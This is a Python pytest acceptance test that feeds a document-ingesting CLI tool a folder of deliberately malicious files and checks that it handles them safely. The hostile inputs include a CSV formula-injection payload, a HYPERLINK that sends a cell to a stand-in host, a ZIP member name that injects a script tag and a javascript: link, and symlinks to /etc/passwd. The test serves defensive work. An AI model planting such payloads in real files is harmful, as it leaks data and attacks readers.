"""Issue 15's acceptance run: one good CSV beside every bad file of the issue, in one folder.

Exit 0, the good CSV's records present, one documents.csv row per entry with a reason, safe
CSVs, an escaped methodology, and no process or temporary file left behind.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import msoffcrypto.format.ooxml
import openpyxl
import pandas as pd
import psutil
import pytest

from tests.safety.test_resume import HANG_GUARD
from tests.safety.test_safety_files import _table_pdf

FOIALOG = str(Path(sys.executable).with_name("foialog"))
PLANT = "x\n## Editor note\n<script>alert(1)</script> [go](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://x.invalid/?leak="&A1,"click")'


def _workbook(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _leak(root: Path) -> Path:
    leak = root / "leak"
    leak.mkdir()
    (leak / "good.csv").write_text("Agency,Searches,Date\nInterpol,320,2020-01-18\n")
    outside = root / "outside.csv"
    outside.write_text("Agency,Searches\nOutside Police,999\n")
    (leak / "link_out.csv").symlink_to(outside)  # item 12
    (leak / "link_system").symlink_to("/etc/passwd")
    (leak / "link_device").symlink_to("/dev/zero")  # item 13
    os.mkfifo(leak / "pipe.csv")
    (leak / ".hidden.csv").write_text("Agency,Searches\nHidden Police,1\n")
    (leak / "Thumbs.db").write_text("Agency,Searches\nThumb Police,1\n")
    (leak / os.fsdecode(b"name\xff\xfe.csv")).write_text("Agency,Searches\nEuropol,12\n")  # 6
    (leak / "denied.csv").write_text("Agency,Searches\nDenied Police,1\n")
    (leak / "denied.csv").chmod(0)
    (leak / "closed").mkdir()
    (leak / "closed" / "inside.csv").write_text("Agency,Searches\nClosed Police,1\n")
    (leak / "closed").chmod(0)
    (leak / "locked.pdf").write_bytes(_table_pdf(password="s3cret"))  # item 5
    plain = _workbook([["Agency", "Searches"], ["RCMP", 41]])
    (leak / "plain.xlsx").write_bytes(plain)  # item 7: --password must not break it
    locked = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(plain)).encrypt("other", locked)
    (leak / "wrong_password.xlsx").write_bytes(locked.getvalue())
    with (leak / "formulas.csv").open("w", newline="") as fh:  # item 16
        csv.writer(fh).writerows([["Agency", "Searches"], [FORMULA, 7], ["Garda", 3]])
    with zipfile.ZipFile(leak / "dump.zip", "w") as zf:  # items 13, 17
        zf.writestr(f"{PLANT}.csv", "Agency,Searches\nGuardia Civil,5\n")
        zf.writestr("twice.csv", "Agency,Searches\nBundespolizei,8\n")
        zf.writestr("twice.csv", "Agency,Searches\nPolizia di Stato,9\n")
    return leak


@pytest.mark.filterwarnings("ignore:Duplicate name")  # the zip holds two twice.csv on purpose
def test_one_good_csv_beside_every_bad_file_of_the_issue(tmp_path: Path) -> None:
    leak = _leak(tmp_path)
    entries = {"link_out.csv", "link_system", "link_device", "pipe.csv", ".hidden.csv",
               "Thumbs.db", "name\\xff\\xfe.csv", "denied.csv", "closed/", "locked.pdf",
               "plain.xlsx", "wrong_password.xlsx", "formulas.csv", "dump.zip", "good.csv",
               "out/"}  # fmt: skip
    command = [FOIALOG, "run", "leak", "-o", "leak/out", "-q", "--workers", "2",
               "--timeout", "1800", "--password", "s3cret"]  # fmt: skip
    if os.geteuid() == 0:  # root reads every file: run without the capabilities that allow it
        command = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *command]
    try:
        proc = subprocess.Popen(
            command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        _, stderr = proc.communicate(timeout=HANG_GUARD)  # a guard: no file should need it
    finally:
        (leak / "closed").chmod(0o755)
    assert proc.returncode == 0, stderr
    out = leak / "out"
    docs = pd.read_csv(out / "documents.csv", dtype=str, keep_default_na=False)
    top = docs[~docs["source_file"].str.contains(" > ")]
    assert sorted(top["source_file"]) == sorted(entries)
    for row in docs.to_dict("records"):
        if row["status"] != "ok":
            assert row["error"].startswith(row["source_file"] + ": "), row
    status = dict(zip(docs["source_file"], docs["status"], strict=True))
    assert status["good.csv"] == status["plain.xlsx"] == status["locked.pdf"] == "ok"
    assert status["wrong_password.xlsx"] == "failed"
    assert status["denied.csv"] == status["closed/"] == "failed"
    members = sorted(n for n in status if n.startswith("dump.zip > "))
    assert members == [
        "dump.zip > twice.csv",
        "dump.zip > twice.csv (2)",
        f"dump.zip > {PLANT}.csv",
    ]
    records = pd.read_csv(out / "records.csv", dtype=str, keep_default_na=False)
    agencies = set(records["agency_raw"])
    assert {
        "Interpol",
        "RCMP",
        "Metro Police Department",
        "Europol",
        "Garda",
        "Bundespolizei",
    } <= agencies
    assert {"Polizia di Stato", "Guardia Civil", "'" + FORMULA} <= agencies
    assert not agencies & {"Outside Police", "Hidden Police", "Thumb Police", "Denied Police"}
    assert "## Editor note" not in (out / "methodology.md").read_text().splitlines()
    assert "<script>" not in (out / "report.html").read_text()
    # Nothing left behind: no process of the run, no scratch folder, no staging, no .tmp.
    leftovers = [p for p in psutil.process_iter(["cmdline"]) if str(leak) in " ".join(
        p.info["cmdline"] or [])]  # fmt: skip
    assert not leftovers
    assert not list(Path(tempfile.gettempdir()).glob(f"foialog-run-{proc.pid}-*"))
    assert not [p.name for p in out.iterdir() if p.name.endswith(".tmp") or "staging" in p.name]
